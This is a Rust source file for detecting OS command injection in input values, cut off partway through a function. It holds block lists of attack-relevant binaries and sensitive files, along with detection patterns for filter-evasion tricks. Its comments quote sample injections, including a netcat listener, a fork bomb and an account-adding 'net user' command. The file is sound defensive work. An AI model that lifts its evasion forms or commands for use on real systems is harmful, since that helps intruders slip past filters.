//! OS command injection: shell command positions and the words in them.
//!
//! A command position is the start of the value, or what follows a shell
//! separator (`;`, `|`, `||`, `&`, `&&`, newline), a substitution (`$(`,
//! a backtick not used as Markdown), a subshell `(` or a brace expansion `{`.
//! The word there is normalised the way a shell would read it (quotes and
//! backslashes dropped, `$IFS`/`${IFS}` as blanks, a path prefix dropped,
//! `?`/`*` globs matched) and looked up in a table of binaries. Unambiguous
//! binaries (`whoami`, `wget`, `bash`) count on their own after a separator;
//! words that are also English (`cat`, `id`, `echo`) need a shell-looking
//! argument (`-l`, `/etc/passwd`, `$HOME`) or nothing after them.

use foldhash::HashMap;
use std::sync::LazyLock;

use super::gate;
use super::sqli::Found;

/// Binaries that are not ordinary words.
const STRONG: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "powershell",
    "pwsh",
    "cmd",
    "telnet",
    "nslookup",
    "busybox",
    "mkfifo",
    "chmod",
    "chown",
    "useradd",
    "usermod",
    "systeminfo",
    "certutil",
    "bitsadmin",
    "wmic",
    "xterm",
    "socat",
    "base64",
    "crontab",
    "tftp",
    "netstat",
    "passwd",
    "sudo",
    "nmap",
    "lsof",
    "ifup",
    "iptables",
    "getent",
    "hostname",
    "xxd",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "tasklist",
    "taskkill",
    "reg",
    "schtasks",
    "sc",
    "icacls",
    "cacls",
    "msiexec",
    "bcdedit",
    "vssadmin",
    "dig",
    "host",
    "traceroute",
    "tracert",
    "arp",
    "route",
    "pgrep",
    "pkill",
    "killall",
    "chattr",
    "setfacl",
    "node",
    "lua",
    "gcc",
    "cc",
    "awk",
    "gawk",
    "sed",
    "grep",
    "egrep",
    "fgrep",
    "visudo",
    "vipw",
    "base32",
    "zcat",
    "zstdcat",
    "bzcat",
    "xzcat",
    "lzcat",
    "bsdtar",
    "irb",
    "gdb",
    "c89",
    "c99",
    "flock",
    "perf",
    "rmt",
    "lastlog",
    "lastlogin",
    "cscli",
    "knife",
    "nsenter",
    "unshare",
    "chroot",
    "strace",
    "ltrace",
    "setarch",
    "taskset",
    "ionice",
    "stdbuf",
    "rlwrap",
    "sshpass",
    "tcpdump",
    "tshark",
    "nping",
    "dmesg",
    "lsmod",
    "insmod",
    "modprobe",
    "rmmod",
    "sysctl",
    "ifdown",
    "journalctl",
    "launchctl",
    "dscl",
    "certreq",
    "wevtutil",
    "nltest",
    "dsquery",
    "quser",
    "qwinsta",
    "cmdkey",
    "msbuild",
    "installutil",
    "regasm",
    "cmstp",
    "odbcconf",
    "forfiles",
    "tclsh",
    "jjs",
    "jshell",
    "groovy",
    "php-cgi",
    "runc",
    "crictl",
    "kubeadm",
    "gsutil",
    "s3cmd",
    "rclone",
    "rsync",
    "sftp",
    "smbclient",
    "rpcclient",
    "ldapsearch",
    "mysqldump",
    "pg_dump",
    "mongosh",
    "sqlcmd",
    "osql",
    "nmcli",
    "iwconfig",
    "hping3",
    "arping",
    "whois",
    "ngrep",
    "zmap",
    "msfconsole",
    "msfvenom",
    "searchsploit",
    "psexec",
    "mimikatz",
    "proxychains",
    "torsocks",
    "uuencode",
    "uudecode",
    "hexdump",
    "objdump",
    "readelf",
    "ldd",
    "gcore",
    "lsattr",
    "getfacl",
    "mkfs",
    "fdisk",
    "losetup",
    "shred",
    "pkexec",
    "doas",
    "runuser",
    "sudoedit",
    "chpasswd",
    "userdel",
    "groupadd",
    "gpasswd",
    "chage",
    "getcap",
    "setcap",
    "capsh",
    "setsid",
    "regedit",
    "bcdboot",
    "aptitude",
    "htop",
    "iwr",
    "iwmi",
    "invoke-webrequest",
    "invoke-expression",
    "gunzip",
    "unxz",
    "adduser",
    "cpulimit",
    "uconv",
    "ansible",
    "aa-disable",
    "aa-enforce",
    "aa-complain",
    "aa-teardown",
];

/// Tool families whose members are `family-verb` (`ansible-playbook`, `chef-client`).
const FAMILIES: &[&str] = &[
    "ansible",
    "chef",
    "ssh",
    "systemd",
    "mysql",
    "pg",
    "redis",
    "aws",
    "docker",
    "kube",
    "puppet",
    "salt",
    "ip6tables",
    "nft",
];

/// Strong binaries that still read as words or product names in prose.
const COMMONISH: &[&str] = &[
    "passwd",
    "host",
    "dig",
    "route",
    "sc",
    "reg",
    "cc",
    "node",
    "lua",
    "php",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "sh",
    "cmd",
    "hostname",
    "base64",
    "sudo",
    "arp",
    "gcc",
    "awk",
    "sed",
    "grep",
    "xterm",
    "curl",
    "wget",
    "bash",
    "powershell",
    "nmap",
    "tar",
    "perf",
    "knife",
    "groovy",
    "whois",
    "rsync",
    "nc",
];

/// Words that run the command after them (`time sh -c id`, `nohup x`).
pub(super) const WRAPPERS: &[&str] = &[
    "time", "nohup", "nice", "env", "sudo", "doas", "exec", "command", "builtin", "xargs",
    "timeout", "flock", "stdbuf", "setsid", "strace", "chroot", "watch", "ionice", "taskset",
    "busybox", "call", "start",
];

/// Strong binaries that may also be the whole value alone (`visudo`), unlike
/// product names (`python`, `curl`) a form field may legitimately hold.
const BARE: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "visudo",
    "vipw",
    "systeminfo",
    "uname",
    "netstat",
    "tasklist",
    "dmesg",
    "lsmod",
    "getcap",
    "chef-shell",
    "ansible-console",
];

/// Binaries that are also ordinary words: they need a shell-looking argument.
const WORDS: &[&str] = &[
    "wc",
    "ls",
    "dir",
    "pwd",
    "printenv",
    "env",
    "uptime",
    "ps",
    "id",
    "cat",
    "tac",
    "nl",
    "head",
    "tail",
    "more",
    "less",
    "od",
    "strings",
    "rm",
    "rmdir",
    "cp",
    "mv",
    "touch",
    "echo",
    "printf",
    "ping",
    "sleep",
    "kill",
    "find",
    "type",
    "ver",
    "net",
    "ssh",
    "scp",
    "ftp",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "ln",
    "mount",
    "reboot",
    "shutdown",
    "halt",
    "last",
    "who",
    "history",
    "file",
    "stat",
    "sort",
    "uniq",
    "dd",
    "vi",
    "vim",
    "nano",
    "diff",
    "whereis",
    "which",
    "locate",
    "export",
    "set",
    "alias",
    "eval",
    "exec",
    "source",
    "nohup",
    "timeout",
    "xargs",
    "tee",
    "cut",
    "tr",
    "rev",
    "date",
    "time",
    "su",
    "openssl",
    "git",
    "svn",
    "java",
    "jrunscript",
    "nice",
    "screen",
    "tmux",
    "expect",
    "at",
    "systemctl",
    "service",
    "apt",
    "apt-get",
    "yum",
    "dnf",
    "pip",
    "npm",
    "docker",
    "kubectl",
    "sqlite3",
    "mysql",
    "psql",
    "ip",
    "cd",
    "pushd",
    "ll",
    "trap",
];

/// `Some(true)` for an unambiguous binary, `Some(false)` for one that is also a word.
pub(super) fn binary(word: &str) -> Option<bool> {
    static TABLE: LazyLock<HashMap<&'static str, bool>> = LazyLock::new(|| {
        let strong = STRONG.iter().map(|w| (*w, true));
        WORDS.iter().map(|w| (*w, false)).chain(strong).collect()
    });
    TABLE
        .get(word)
        .copied()
        .or_else(|| {
            // A versioned interpreter or compiler (`python3.10`, `gcc7.4`).
            let stem = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
            (stem.len() >= 2 && stem.len() < word.len() && word.contains('.'))
                .then(|| TABLE.get(stem).copied().filter(|strong| *strong))
                .flatten()
        })
        .or_else(|| {
            let (family, verb) = word.split_once('-')?;
            (FAMILIES.contains(&family)
                && !verb.is_empty()
                && verb.bytes().all(|c| c.is_ascii_lowercase() || c == b'-'))
            .then_some(true)
        })
}

/// Matches a glob word (`c?t`, `/???/c*t` after the path is dropped) against the table.
fn glob_binary(word: &str) -> Option<bool> {
    let literal = word.bytes().filter(|c| *c != b'?' && *c != b'*').count();
    if literal < 2 {
        return None;
    }
    // A globbed binary name is shell syntax: strong evidence either way.
    STRONG
        .iter()
        .chain(WORDS)
        .any(|b| glob(word.as_bytes(), b.as_bytes()))
        .then_some(true)
}

/// Iterative glob match (`?` one char, `*` any run), linear in practice.
fn glob(p: &[u8], s: &[u8]) -> bool {
    let (mut pi, mut si) = (0, 0);
    let (mut star, mut mark) = (None, 0);
    while si < s.len() {
        match p.get(pi) {
            Some(b'?') => {
                pi += 1;
                si += 1;
            }
            Some(b'*') => {
                star = Some(pi);
                mark = si;
                pi += 1;
            }
            Some(c) if *c == s[si] => {
                pi += 1;
                si += 1;
            }
            _ => match star {
                Some(st) => {
                    pi = st + 1;
                    mark += 1;
                    si = mark;
                }
                None => return false,
            },
        }
    }
    while p.get(pi) == Some(&b'*') {
        pi += 1;
    }
    pi == p.len()
}

/// The shell reading of the word at the start of `s`: the normalised word
/// and what follows it.
fn word(s: &str) -> (String, &str) {
    let (w, rest, _) = word_noise(s);
    (w, rest)
}

/// [`word`], also saying whether the word was written the way only an
/// evasion writes one: quotes opened and closed inside it (`c'a't`, `"w"get`),
/// a backslash (`\ls`, `wh\oami`), an empty substitution (`pi$()ng`,
/// ``pi``ng``) or a special parameter (`c$@at`, `c$!at`) that expands to nothing.
fn word_noise(s: &str) -> (String, &str, bool) {
    // One allocation for most words (a word stops growing at 64 bytes).
    let mut w = String::with_capacity(24);
    let b = s.as_bytes();
    let mut i = 0;
    let mut noise = false;
    let mut quotes = [0u8; 2];
    while i < b.len() && w.len() < 64 {
        let c = b[i];
        match c {
            b'\'' | b'"' => {
                quotes[usize::from(c == b'"')] += 1;
                i += 1;
            }
            b'\\' => {
                noise |= b.get(i + 1).is_some_and(|n| n.is_ascii_alphabetic());
                i += 1;
            }
            // ANSI-C quoting `$'...'` / locale quoting `$"..."`.
            b'$' if matches!(b.get(i + 1), Some(b'\'' | b'"')) => {
                noise = true;
                i += 1;
            }
            b'$' if matches!(b.get(i + 1), Some(b'@' | b'*')) => {
                noise = true;
                i += 2;
            }
            // `$!`, `$?`, `$-`, `$_`, `$$` and empty `$()` inside a word.
            b'$' if !w.is_empty()
                && (matches!(b.get(i + 1), Some(b'!' | b'?' | b'-' | b'_' | b'$'))
                    || b.get(i + 1..i + 3) == Some(b"()")) =>
            {
                noise = true;
                i += if b.get(i + 1) == Some(&b'(') { 3 } else { 2 };
            }
            // An empty process substitution or backtick pair inside a word.
            b'<' | b'>' | b'`'
                if !w.is_empty()
                    && (b.get(i + 1..i + 3) == Some(b"()")
                        || (c == b'`' && b.get(i + 1) == Some(&b'`'))) =>
            {
                noise = true;
                i += if c == b'`' { 2 } else { 3 };
            }
            // An unset upper-case variable ending a word (`sh$XX -c`).
            b'$' if !w.is_empty()
                && b.get(i + 1).is_some_and(u8::is_ascii_uppercase)
                && b.get(i + 1..).is_some_and(|r| {
                    let n = r
                        .iter()
                        .take_while(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || **c == b'_')
                        .count();
                    n <= 8 && !r.get(n).is_some_and(|c| c.is_ascii_alphanumeric())
                }) =>
            {
                noise = true;
                i += 1;
                while b
                    .get(i)
                    .is_some_and(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || *c == b'_')
                {
                    i += 1;
                }
            }
            // An unset one-letter variable inside a word (`n$u\c$u`).
            b'$' if !w.is_empty()
                && b.get(i + 1).is_some_and(|n| n.is_ascii_lowercase())
                && !b
                    .get(i + 2)
                    .is_some_and(|n| n.is_ascii_alphanumeric() || *n == b'_') =>
            {
                noise = true;
                i += 2;
            }
            b'$' if s
                .get(i..)
                .is_some_and(|r| r.starts_with("${IFS}") || r.starts_with("$IFS")) =>
            {
                break
            }
            // A bracket class is one globbed character (`[u]name`, `pa[!x]swd`).
            b'[' => match b
                .get(i + 1..)
                .and_then(|r| r.iter().take(16).position(|c| *c == b']'))
            {
                Some(end) => {
                    let class = &b[i + 1..i + 1 + end];
                    match class {
                        [c] if c.is_ascii_alphanumeric() => w.push(c.to_ascii_lowercase() as char),
                        _ => w.push('?'),
                    }
                    i += end + 2;
                }
                None => break,
            },
            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b')' | b'(' | b','
            | b'<' | b'>' | b'}' | b'{' => break,
            _ => {
                w.push(c.to_ascii_lowercase() as char);
                i += 1;
            }
        }
    }
    let rest = s.get(i..).unwrap_or("");
    // Quotes around the whole word only quote it; a pair inside it splits it.
    let wrapped = b.first().is_some_and(|c| matches!(c, b'\'' | b'"'))
        && i > 0
        && b.get(i - 1) == b.first()
        && quotes[0] + quotes[1] == 2;
    noise |= !wrapped && quotes.iter().any(|q| *q >= 2);
    (w, rest, noise)
}

/// What follows a command word looks like shell: an option, a path, a
/// variable, a redirection, another command, or nothing.
fn shellish(rest: &str) -> bool {
    let mut r = rest;
    for blank in ["${IFS}", "$IFS", " ", "\t", "+", ","] {
        if let Some(t) = r.strip_prefix(blank) {
            r = t;
        }
    }
    let r = r.trim_start();
    r.is_empty()
        || r.starts_with([
            '-', '/', '~', '$', '>', '<', '|', ';', '&', '`', '*', '%', '\\', '.', '\'', '"', ')',
            '}',
        ])
        || r.get(..3)
            .is_some_and(|p| p.eq_ignore_ascii_case("c:\\") || p.eq_ignore_ascii_case("c:/"))
        || r.get(..4).is_some_and(|p| p.eq_ignore_ascii_case("http"))
}

fn best(a: Option<Found>, b: Option<Found>) -> Option<Found> {
    match (a, b) {
        (Some(x), Some(y)) => Some(if y.1 > x.1 { y } else { x }),
        (x, None) => x,
        (None, y) => y,
    }
}

/// Judges the command at the start of `s`; `after_sep` says a separator or
/// substitution came before it.
fn command_at(s: &str, after_sep: bool) -> Option<Found> {
    command_at_depth(s, after_sep, 0)
}

/// An option (`-l`, `--version`) or a path (`/etc/x`, `~/x`) right after a word.
fn strong_args(rest: &str) -> bool {
    let r = rest.trim_start_matches([' ', '\t', '+']);
    if r.len() == rest.len() {
        return false;
    }
    let b = r.as_bytes();
    match b.first() {
        Some(b'-') => {
            let o = if b.get(1) == Some(&b'-') {
                b.get(2)
            } else {
                b.get(1)
            };
            o.is_some_and(|c| c.is_ascii_alphabetic())
        }
        Some(b'/') => b
            .get(1)
            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'?'),
        Some(b'~') => true,
        // dd's operands (`dd if=/etc/passwd of=/tmp/x`).
        Some(b'i' | b'o') => r.starts_with("if=/") || r.starts_with("of=/"),
        _ => false,
    }
}

/// A value that is an output redirection into a system path
/// (`>/tmp/curl`, `>>/etc/crontab`): the tail of a command an injection
/// completes; a Markdown quote (`> text`) has a blank and no path.
fn redirect_start(s: &str) -> Option<Found> {
    let r = s.strip_prefix(">>").or_else(|| s.strip_prefix('>'))?;
    let dirs = [
        "/tmp/", "/dev/", "/etc/", "/var/", "/proc/", "/root/", "/home/", "/usr/",
    ];
    (dirs.iter().any(|d| r.starts_with(d)) && !r.contains(char::is_whitespace))
        .then_some(("rce.redirect", 0.7))
}

/// Three variables or more glued together (`$c1$c2$c3$c4`): a command
/// spelled a letter per variable so no filter sees its name. Prices
/// (`$5$10`) start with digits; templates write `${a}` with braces.
fn variable_concat(b: &[u8]) -> Option<Found> {
    let mut i = 0;
    let mut run = 0;
    while i < b.len() {
        if b[i] == b'$'
            && b.get(i + 1)
                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
        {
            let mut j = i + 2;
            while b
                .get(j)
                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
                && j - i < 34
            {
                j += 1;
            }
            run += 1;
            if run >= 3 {
                return Some(("rce.variable_concat", 0.75));
            }
            i = j;
            if b.get(i) != Some(&b'$') {
                run = 0;
            }
        } else {
            run = 0;
            i += 1;
        }
    }
    None
}

/// Four plain words in a row (lower-case letters or a number, no option,
/// path, quote or operator): a sentence, not an argument list.
fn prose_tail(rest: &str) -> bool {
    // Only the first simple command: a separator starts shell syntax again.
    let end = rest
        .find([';', '|', '&', '\n', '`', '$', '<', '>'])
        .unwrap_or(rest.len());
    let mut run = 0;
    for w in rest
        .get(..end)
        .unwrap_or("")
        .split([' ', '+'])
        .filter(|w| !w.is_empty())
        .take(64)
    {
        let plain = w.len() <= 16
            && (w.bytes().all(|c| c.is_ascii_lowercase())
                || w.bytes().all(|c| c.is_ascii_digit()) && w.len() <= 4);
        run = if plain { run + 1 } else { 0 };
        if run >= 4 {
            return true;
        }
    }
    false
}

/// Whether [`command_at_depth`] on `t` (blanks and `$SHELL` already taken
/// off) is `None` by its plain first word alone, with no copy of the word.
///
/// A run of ASCII letters, digits and `. - _ : /`, of 64 bytes at most,
/// then the end or a byte `word_noise` always stops at (a blank, `; | & ( )
/// , { }`), is read by `word_noise` as its lower-case copy with no noise:
/// none of its bytes has an arm of its own (quotes, `\`, `$`, `[`, `<`,
/// `>`, `` ` ``). With no `$` and no `=` in it, and not followed by `()`,
/// only `alias`, a wrapper or a known binary (`binary` of the part after
/// the last `/`, `.exe` dropped) leads past `let strong = known?`; the
/// `/bin/ab` return needs the word to start with `/`. Any other word, or a
/// run that is not plain, is left to the full reading.
fn plain_miss(t: &str) -> bool {
    let b = t.as_bytes();
    let n = b
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b':' | b'/'))
        .count();
    let ends = match b.get(n) {
        None => true,
        Some(c) => matches!(
            c,
            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b')' | b'(' | b',' | b'}' | b'{'
        ),
    };
    let mut buf = [0u8; 64];
    let Some(out) = buf.get_mut(..n) else {
        return false;
    };
    if n == 0 || !ends || b.first() == Some(&b'/') {
        return false;
    }
    for (o, c) in out.iter_mut().zip(b) {
        *o = c.to_ascii_lowercase();
    }
    let Ok(w) = std::str::from_utf8(out) else {
        return false;
    };
    let rest = t.get(n..).unwrap_or("");
    if w == "alias" || rest.trim_start().starts_with("()") {
        return false;
    }
    let base = w.rsplit('/').next().unwrap_or(w);
    let base = base.strip_suffix(".exe").unwrap_or(base);
    !WRAPPERS.contains(&base) && binary(base).is_none()
}

fn command_at_depth(s: &str, after_sep: bool, depth: usize) -> Option<Found> {
    let mut t = s;
    loop {
        let before = t.len();
        t = t.trim_start_matches([' ', '\t', '\n', '\r', '{', '(', '@']);
        for blank in ["${IFS}", "$IFS"] {
            if let Some(r) = t.strip_prefix(blank) {
                t = r;
            }
        }
        if t.len() == before {
            break;
        }
    }
    // `$SHELL -c "..."`, `${BASH} -c`: the user's shell named by its variable.
    for var in ["$SHELL", "${SHELL}", "$BASH", "${BASH}"] {
        if let Some(r) = t.strip_prefix(var) {
            let r = r.trim_start_matches([' ', '\t', '+']);
            if let Some(after) = r.strip_prefix("-c") {
                if after.is_empty() || after.starts_with([' ', '\t', '+', '\'', '"']) {
                    return Some(("rce.shell_variable", 0.85));
                }
            }
        }
    }
    if plain_miss(t) {
        return None;
    }
    let (w, rest, noise) = word_noise(t);
    if w.is_empty() {
        return None;
    }
    // An unset variable in command position expands to nothing (`;$a cat x`).
    if depth < 3
        && w.len() <= 3
        && w.starts_with('$')
        && w.bytes().skip(1).all(|c| c.is_ascii_lowercase())
        && rest.starts_with([' ', '\t', '+'])
    {
        return command_at_depth(rest, after_sep, depth + 1).or_else(|| {
            let (next, _) = word(rest.trim_start_matches([' ', '\t', '+']));
            binary(&next).map(|_| ("rce.obfuscated_command", 0.8))
        });
    }
    // `a=nc&&$a -nlvp 555`: a binary put in a variable, then run through it.
    if let Some((name, val)) = w.split_once('=') {
        if !name.is_empty()
            && name.len() <= 16
            && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
            && binary(val).is_some()
            && rest.contains(&format!("${name}"))
        {
            return Some(("rce.variable_command", 0.85));
        }
    }
    // `f(){ f|f& };f`: a shell function definition.
    if let Some(body) = rest.trim_start().strip_prefix("()") {
        if body.trim_start().starts_with('{')
            && w.bytes()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b':' | b'.'))
        {
            return Some(("rce.function_definition", 0.85));
        }
    }
    if w == "alias" {
        // Options first (`alias -p`, zsh's `alias +m`, `alias +g+`).
        let mut r = rest.trim_start();
        for _ in 0..4 {
            match r.strip_prefix(['-', '+']) {
                Some(o) if o.starts_with(|c: char| c.is_ascii_alphabetic()) => {
                    let e = o.find([' ', '\t']).unwrap_or(o.len());
                    r = o.get(e..).unwrap_or("").trim_start();
                }
                _ => break,
            }
        }
        let name = r
            .bytes()
            .take_while(|c| !matches!(c, b'=' | b' ' | b'\t' | b'\n'))
            .count();
        if name > 0 && r.as_bytes().get(name) == Some(&b'=') {
            return Some(("rce.alias", 0.75));
        }
    }
    let absolute = w.starts_with('/') || w.starts_with("c:\\") || w.starts_with("c:/");
    let base = w.rsplit(['/', '\\']).next().unwrap_or(&w);
    let base = base.strip_suffix(".exe").unwrap_or(base);
    if depth < 3 && WRAPPERS.contains(&base) && rest.starts_with([' ', '\t', '+']) {
        // Skip the wrapper's options and operands (`timeout 5`, `flock -u /`).
        let mut r = rest;
        for _ in 0..4 {
            let t = r.trim_start_matches([' ', '\t', '+']);
            if t.starts_with('-')
                || t.starts_with("/ ")
                || t.starts_with(|c: char| c.is_ascii_digit())
            {
                r = t
                    .find([' ', '\t', '+'])
                    .map_or("", |e| t.get(e..).unwrap_or(""));
            } else {
                break;
            }
        }
        if let Some(f) = command_at_depth(r, true, depth + 1) {
            return Some(if after_sep { f } else { (f.0, f.1.min(0.8)) });
        }
    }
    let known = if base.contains(['?', '*']) {
        glob_binary(base)
    } else {
        binary(base)
    };
    // `/bin/ab`: the whole value names a program in a system binary directory.
    if !after_sep && rest.trim().is_empty() && known.is_none() {
        let dir = w.len() - base.len();
        let system = [
            "/bin/",
            "/sbin/",
            "/usr/bin/",
            "/usr/sbin/",
            "/usr/local/bin/",
        ]
        .iter()
        .any(|d| w.len() == d.len() + base.len() && w.starts_with(d));
        let name = (2..=32).contains(&base.len())
            && base
                .bytes()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, b'-' | b'_'));
        return (dir > 0 && system && name).then_some(("rce.binary_path", 0.7));
    }
    let strong = known?;
    let path_ok = !absolute
        || [
            "/bin/",
            "/usr/bin/",
            "/sbin/",
            "/usr/sbin/",
            "/usr/local/bin/",
            "c:\\windows\\",
            "c:/windows/",
        ]
        .iter()
        .any(|p| w.starts_with(p))
        || w.starts_with("/???/")
        || w.starts_with("/?");
    if !path_ok {
        return None;
    }
    // `c'a't`, `pi$()ng`, `\ls`: nobody writes a program name that way but to evade.
    if noise {
        return Some(("rce.obfuscated_command", 0.8));
    }
    let args = shellish(rest);
    let bare = rest.trim().is_empty();
    // `cat /proc/cpuinfo shows 4 cores on my laptop`: a value that starts
    // with a command and runs on as a sentence is prose about the command.
    if !after_sep && !absolute && prose_tail(rest) {
        return None;
    }
    match (after_sep, strong, absolute) {
        (true, true, _) => Some(("rce.command", 0.9)),
        // `cat&mouse`: an English word joined to another by `&`/`|` is a compound.
        (true, false, _)
            if args
                && !(rest.starts_with(['&', '|'])
                    && rest
                        .as_bytes()
                        .get(1)
                        .is_some_and(u8::is_ascii_alphanumeric)) =>
        {
            Some(("rce.command", 0.85))
        }
        (true, false, _) if probe_args(base, rest) => Some(("rce.command", 0.85)),
        (false, _, true) if args => Some(("rce.binary_path", 0.75)),
        (false, true, false) if args && !bare => Some(("rce.command_start", 0.6)),
        (false, true, false) if bare && BARE.contains(&base) => Some(("rce.command_start", 0.6)),
        (false, _, false) if strong_args(rest) => Some(("rce.command_start", 0.6)),
        // `cscli alerts list`: a tool that is no English word, with word arguments.
        (false, true, false)
            if rest.starts_with([' ', '+'])
                && !bare
                && !COMMONISH.contains(&base)
                && rest.len() < 120 =>
        {
            Some(("rce.command_start", 0.55))
        }
        _ => None,
    }
}

/// The arguments blind-injection probes give the word-like `sleep`, `ping`
/// and `net` after a separator or in a substitution (`;sleep 10;`,
/// `$(sleep 5)`, `|ping 127.0.0.1`, `| net user`, `& net user x p /add`):
/// read up to the end of the value or the next shell character, so a
/// sentence that goes on (`; sleep 10 hours tonight`, `ok; ping me`,
/// `; net user growth was flat`) is not one.
fn probe_args(base: &str, rest: &str) -> bool {
    let Some(r) = rest.strip_prefix([' ', '\t', '+']) else {
        return false;
    };
    let r = r.trim_start_matches([' ', '\t', '+']);
    let end = r
        .find([';', '|', '&', '\n', '\r', '`', ')', '#', '>', '<'])
        .unwrap_or(r.len());
    let arg = r
        .get(..end)
        .unwrap_or("")
        .trim_end_matches([' ', '\t', '+']);
    let mut words = arg.split([' ', '\t', '+']).filter(|w| !w.is_empty());
    let first = words.next().unwrap_or("");
    let more = words.count();
    match base {
        "sleep" => {
            let n = first.trim_end_matches(['s', 'm', 'h']);
            more == 0 && !n.is_empty() && n.bytes().all(|c| c.is_ascii_digit() || c == b'.')
        }
        "ping" => {
            more == 0
                && first.bytes().any(|c| c.is_ascii_digit() || c == b'.')
                && first
                    .bytes()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b':' | b'-'))
        }
        "net" => {
            more <= 3
                && [
                    "user",
                    "localgroup",
                    "group",
                    "view",
                    "share",
                    "use",
                    "accounts",
                    "session",
                ]
                .iter()
                .any(|v| v.eq_ignore_ascii_case(first))
        }
        _ => false,
    }
}

/// Files an attacker reaches for by a glob, as path segments.
const GLOB_TARGETS: &[&[&str]] = &[
    &["etc", "passwd"],
    &["etc", "shadow"],
    &["etc", "group"],
    &["etc", "hosts"],
    &["etc", "sudoers"],
    &["etc", "issue"],
    &["proc", "self", "environ"],
];

/// A path written with shell globs (`/etc/pas[s]wd`, `/???/?s`, `/et*/*wd`,
/// `/usr/[a-z]in/bash`) that the shell would resolve to a sensitive file
/// or a binary: `?` and `*` never cross a `/`, a bracket class is one character.
fn glob_path(s: &str) -> Option<Found> {
    let b = s.as_bytes();
    let mut pat = String::new();
    for (at, _) in s.match_indices('/').take(32) {
        if at > 0
            && !matches!(
                b[at - 1],
                b' ' | b'='
                    | b'+'
                    | b'\t'
                    | b'\''
                    | b'"'
                    | b'>'
                    | b'<'
                    | b';'
                    | b'|'
                    | b'&'
                    | b'('
                    | b'`'
            )
        {
            continue;
        }
        pat.clear();
        let mut i = at;
        let mut globbed = false;
        while i < b.len() && pat.len() < 96 {
            match b[i] {
                b'[' => match b
                    .get(i + 1..)
                    .and_then(|r| r.iter().take(24).position(|c| *c == b']'))
                {
                    Some(end) => {
                        pat.push('?');
                        globbed = true;
                        i += end + 2;
                    }
                    None => break,
                },
                b'?' | b'*' => {
                    globbed = true;
                    pat.push(b[i] as char);
                    i += 1;
                }
                c if c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-') => {
                    pat.push(c.to_ascii_lowercase() as char);
                    i += 1;
                }
                _ => break,
            }
        }
        let letters = pat.bytes().filter(|c| c.is_ascii_alphanumeric()).count();
        if !globbed || letters == 0 {
            continue;
        }
        let segs: Vec<&str> = pat.split('/').filter(|x| !x.is_empty()).collect();
        let m = |p: &str, t: &str| glob(p.as_bytes(), t.as_bytes());
        let target = GLOB_TARGETS
            .iter()
            .any(|t| t.len() == segs.len() && t.iter().zip(&segs).all(|(t, p)| m(p, t)));
        let bin_dir = |d: &[&str]| match d {
            [x] => m(x, "bin") || m(x, "sbin"),
            [u, x] => m(u, "usr") && (m(x, "bin") || m(x, "sbin")),
            _ => false,
        };
        let binary_path = segs.split_last().is_some_and(|(name, dir)| {
            bin_dir(dir)
                && name.bytes().any(|c| c.is_ascii_alphanumeric())
                && STRONG.iter().chain(WORDS).any(|w| m(name, w))
        });
        if target || binary_path {
            return Some(("rce.glob_path", 0.8));
        }
    }
    None
}

/// A value that opens with a shell separator and a command word
/// (`;top`, `&aptitude`, `';htop'`, `|vi (x`): the shape of an injection
/// appended to a command line. Not an HTML entity (`&nbsp;`), not a
/// Markdown table row (`| a | b |`).
fn leading_separator(s: &str) -> Option<Found> {
    let s = s.trim();
    let t = s.trim_start_matches(['\'', '"']);
    let quote = s.as_bytes().first().filter(|_| t.len() < s.len());
    let (sep, after) = if let Some(r) = t.strip_prefix("&&").or(t.strip_prefix("||")) {
        ("&", r)
    } else if let Some(r) = t.strip_prefix(';') {
        (";", r)
    } else if let Some(r) = t.strip_prefix('&') {
        ("&", r)
    } else if let Some(r) = t.strip_prefix('|') {
        ("|", r)
    } else {
        return None;
    };
    let r = after.trim_start_matches([' ', '\t']);
    let n = r
        .bytes()
        .take_while(|c| {
            c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, b'_' | b'-' | b'.')
        })
        .count();
    if !(2..=24).contains(&n) || !r.as_bytes().first().is_some_and(u8::is_ascii_lowercase) {
        return None;
    }
    let next = r.as_bytes().get(n);
    if sep == "&" && next == Some(&b';') {
        return None;
    }
    if sep == "|" && r.get(n..).is_some_and(|x| x.contains('|')) {
        return None;
    }
    // The word alone, closing the quote it broke out of, or with an option or path.
    let ok = match next {
        None => true,
        Some(q @ (b'\'' | b'"')) => quote == Some(q) && r.len() == n + 1,
        Some(b' ' | b'\t' | b'+') => strong_args(r.get(n..).unwrap_or("")),
        _ => false,
    };
    ok.then_some(("rce.leading_separator", 0.6))
}

/// SQLite shell dot-commands after a statement break (`;\n.shell id`, `1;.system x`).
fn sqlite_dot_command(s: &str) -> Option<Found> {
    for (at, _) in s.match_indices(';').take(16) {
        let mut r = s.get(at + 1..).unwrap_or("");
        for _ in 0..8 {
            let t = r.trim_start_matches([' ', '\t', '\r', '\n', '"', '\'']);
            let t = t
                .strip_prefix("\\n")
                .or_else(|| t.strip_prefix('\\'))
                .unwrap_or(t);
            if t.len() == r.len() {
                break;
            }
            r = t;
        }
        let Some(cmd) = r.strip_prefix('.') else {
            continue;
        };
